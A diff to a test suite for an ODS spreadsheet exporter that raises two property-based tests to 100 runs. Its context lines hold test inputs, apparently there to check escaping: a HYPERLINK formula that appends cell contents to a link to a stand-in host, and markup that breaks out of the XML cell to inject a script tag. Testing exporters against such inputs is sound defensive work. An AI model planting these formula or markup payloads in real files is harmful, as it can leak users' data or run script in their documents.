@@ -14,6 +14,7 @@ import { makeVisible } from '../../../src/words/visible.js';
 import { folderWith } from '../../folder.js';
 import { elements, parsed, workbook, type Read } from '../../ods.js';
 import { run } from '../../run.js';
+import { runs } from '../../runs.js';
 
 const formula = '=HYPERLINK("http://example.org/?"&A1,"click")';
 const markup = '</text:p></table:table-cell>]]><script>alert(1)</script>&#x3d;&amp;';
@@ -110,6 +111,7 @@ test('text comes through XML as it went in, but for what has to be made visible'
       expect(root.getAttribute('a')).toBe(seen);
       expect(spaced.join('')).toBe(seen);
     }),
+    runs(100),
   );
 });
 
@@ -145,6 +147,7 @@ test('tabs are told apart whatever the columns are called', () => {
       expect(names.filter((name) => !/^By[\p{L}\p{N}_]*$/u.test(name) || name.length > 31)).toEqual([]);
       expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(names.length);
     }),
+    runs(100),
   );
 });
 
